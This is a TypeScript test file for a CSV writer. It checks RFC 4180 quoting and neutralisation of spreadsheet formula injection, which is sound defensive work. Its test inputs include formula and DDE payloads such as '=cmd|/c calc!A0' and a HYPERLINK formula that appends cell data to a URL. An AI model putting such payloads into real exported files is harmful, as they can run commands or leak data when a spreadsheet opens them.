import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CsvCell, csvLine } from './csv.ts';

/** A reader by the grammar of RFC 4180, written apart from the writer. */
function readLine(line: string): string[] {
  const cells: string[] = [];
  let rest = line;
  for (;;) {
    const [whole, quoted, plain = ''] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n$)/.exec(rest) ?? [];
    if (whole === undefined) throw new Error(`not RFC 4180: ${JSON.stringify(rest)}`);
    cells.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    rest = rest.slice(whole.length);
    if (rest === '' && whole.endsWith('\r\n')) return cells;
  }
}

describe('csvLine', () => {
  it('quotes text, doubles quotes, and leaves numbers, words of logic and nothing bare', () => {
    expect(csvLine(['600519.SH', '贵州茅台', 'a "b", c', 12.5, -3, true, null, undefined, ''])).toBe(
      '"600519.SH","贵州茅台","a ""b"", c",12.5,-3,true,,,""\r\n',
    );
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tx',
    '\rx',
    ' =1',
    '\u00A0=1',
    '\uFEFF=1',
    '\u200B=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    `=HYPERLINK("http://example.org?"&A1,"x")`,
    '=cmd|/c calc!A0',
  ])('puts an apostrophe before %j', (text) => {
    expect(readLine(csvLine([text]))).toEqual([`'${text}`]);
  });

  it.each(['a=1', '1+1', "'=1", 'x@example.org', '(=1)', '"=1'])('leaves %j as it is', (text) => {
    expect(readLine(csvLine([text]))).toEqual([text]);
  });

  it('is read back as it was written, whatever is in it, and begins no cell with a formula', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc
        .array(fc.constantFrom('=', '+', '-', '@', '"', ',', '\r', '\n', '\t', ';', "'", 'a', '股'), {
          maxLength: 6,
        })
        .map((all) => all.join('')),
    );
    const cell: fc.Arbitrary<CsvCell> = fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null));
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        const read = readLine(csvLine(cells));
        expect(read).toHaveLength(cells.length);
        for (const [index, given] of cells.entries())
          expect([String(given ?? ''), `'${given}`]).toContain(read[index]);
        const texts = read.filter((_, index) => typeof cells[index] === 'string');
        expect(texts.filter((shown) => /^[=+\-@\t\r\n]/.test(shown))).toEqual([]);
      }),
    );
  });
});
